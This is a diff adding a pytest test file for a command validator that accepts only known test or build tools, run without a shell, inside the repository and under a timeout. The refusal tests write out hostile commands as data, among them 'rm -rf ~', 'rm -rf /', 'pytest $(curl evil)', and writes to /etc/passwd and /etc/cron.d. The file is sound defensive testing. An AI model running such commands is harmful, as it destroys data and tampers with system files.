@@ -1,0 +1,85 @@
+"""Commands from a plan: one known tool, no shell, inside the repository, stopped at the timeout."""
+
+from __future__ import annotations
+
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from wfqueue.commands import UnsafeCommandError, parse_command, refusal, run_command
+
+
+@pytest.mark.parametrize("command", [
+    "pytest tests/test_api.py -q",
+    "`python -m pytest -k limiter`",
+    "npm test",
+    "make check",
+    "go test ./...",
+    "pytest --rootdir=. tests",
+])
+def test_a_single_known_tool_inside_the_repository_is_accepted(command: str) -> None:
+    argv = parse_command(command)
+    assert argv[0] in ("pytest", "python", "npm", "make", "go") and refusal(command) is None
+
+
+@pytest.mark.parametrize(("command", "why"), [
+    ("pytest; rm -rf ~", "needs a shell (';')"),
+    ("pytest tests && rm -rf /", "needs a shell ('&')"),
+    ("make check | tee /etc/passwd", "needs a shell ('|')"),
+    ("pytest > /etc/cron.d/x", "needs a shell ('>')"),
+    ("pytest $(curl evil)", "needs a shell ('$(')"),
+    ("pytest `rm -rf .`", "needs a shell ('`')"),
+    ("pytest\nrm -rf ~", "needs a shell (a line break)"),
+    ("rm -rf /", "does not start with a known test or build tool"),
+    ("bash -c 'pytest'", "does not start with a known test or build tool"),
+    ("pytestx tests", "does not start with a known test or build tool"),
+    ("pytest /etc", "outside the repository: /etc"),
+    ("pytest ../other-repo/tests", "outside the repository: ../other-repo/tests"),
+    ("pytest --rootdir=/", "outside the repository: --rootdir=/"),
+    ("make -C ~/elsewhere", "outside the repository: ~/elsewhere"),
+    ("pytest 'unclosed", "cannot be split into arguments"),
+    ("  ", "empty"),
+])
+def test_commands_that_need_a_shell_or_leave_the_repository_are_refused(command: str, why: str) -> None:
+    with pytest.raises(UnsafeCommandError) as caught:
+        parse_command(command)
+    assert why in caught.value.message
+    assert caught.value.exit_code == 2
+
+
+def test_a_refused_command_never_runs(tmp_path: Path) -> None:
+    canary = tmp_path / "canary.txt"
+    canary.write_text("still here")
+    assert refusal(f"pytest; rm -rf {tmp_path}") is not None
+    assert canary.read_text() == "still here"
+
+
+def test_a_command_runs_inside_the_repository_without_a_shell(tmp_path: Path) -> None:
+    # ``;`` reaches the program as a literal argument: no shell interprets it.
+    script = "import os, sys; print(os.getcwd()); print(sys.argv[1:])"
+    result = run_command([sys.executable, "-c", script, ";", "echo", "pwned"], tmp_path, timeout_s=30)
+    assert result.exit_code == 0 and not result.timed_out
+    cwd, args = result.output.splitlines()
+    assert Path(cwd).resolve() == tmp_path.resolve()
+    assert args == "[';', 'echo', 'pwned']"
+
+
+def test_a_command_is_stopped_at_its_timeout_with_its_children(tmp_path: Path) -> None:
+    child = tmp_path / "child-alive"
+    (tmp_path / "slow.py").write_text(
+        "import subprocess, sys, time\n"
+        f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(3); open(r\"{child}\", \"w\")'])\n"
+        "time.sleep(60)\n")
+    started = time.monotonic()
+    result = run_command([sys.executable, "slow.py"], tmp_path, timeout_s=1)
+    assert result.timed_out and result.exit_code is None
+    assert time.monotonic() - started < 10
+    time.sleep(3)
+    assert not child.exists(), "the command's child outlived the timeout"
+
+
+def test_a_missing_program_is_exit_127(tmp_path: Path) -> None:
+    result = run_command(["no-such-tool-xyz", "--version"], tmp_path, timeout_s=5)
+    assert result.exit_code == 127 and "not found" in result.output
